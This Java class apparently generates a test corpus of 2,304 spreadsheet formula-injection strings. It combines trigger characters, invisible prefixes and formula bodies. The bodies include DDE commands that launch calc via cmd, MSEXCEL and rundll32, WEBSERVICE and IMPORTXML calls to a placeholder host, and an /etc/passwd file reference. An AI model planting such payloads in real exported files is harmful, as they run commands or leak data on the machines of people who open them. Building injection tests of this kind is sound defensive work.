package cn.bidui.endure;

import java.util.List;
import java.util.stream.IntStream;

/** Words that a spreadsheet would compute if it were let: 2,304 of them, no two the same. */
final class Payloads {

  private static final List<String> STARTS =
      List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=");

  /** What does not show, or is taken off when a cell is read. */
  private static final List<String> BEFORE =
      List.of("", " ", "\u3000", "\u00A0", "\u200B", "\uFEFF", "\u200F", "\"");

  private static final List<String> BODIES =
      List.of(
          "1+%d",
          "cmd|' /C calc'!A%d",
          "HYPERLINK(\"http://x.invalid/%d\",\"点这里\")",
          "DDE(\"cmd\";\"/C calc\";\"%d\")",
          "WEBSERVICE(\"http://x.invalid/%d\")",
          "SUM(1+1)*cmd|' /C calc'!A%d",
          "A%d",
          "'file:///etc/passwd'#$Sheet1.A%d",
          "IMPORTXML(\"http://x.invalid/%d\",\"//a\")",
          "%d+3+cmd|' /C calc'!A0",
          "MSEXCEL|'\\..\\..\\calc.exe'!A%d",
          "IF(1=1,\"是%d\",\"否\")",
          "RTD(\"x\",,\"%d\")",
          "CONCATENATE(A1:A%d)",
          "[x.xlsx]Sheet1!A%d",
          "SUM(A1:A%d);;",
          "T(%d)&T(2)",
          "ROW(A%d)",
          "-+-%d+1",
          "{%d;1}",
          "INDIRECT(\"A%d\")",
          "%d*2%%",
          "PI()*%d",
          "rundll32|'URL.dll,OpenURL x.invalid'!A%d");

  private Payloads() {}

  static String of(int number) {
    String start = STARTS.get(number % 12);
    String before = BEFORE.get(number / 12 % 8);
    return before + start + BODIES.get(number / 96 % 24).formatted(number);
  }

  static List<String> from(int first, int count) {
    return IntStream.range(first, first + count).mapToObj(Payloads::of).toList();
  }
}
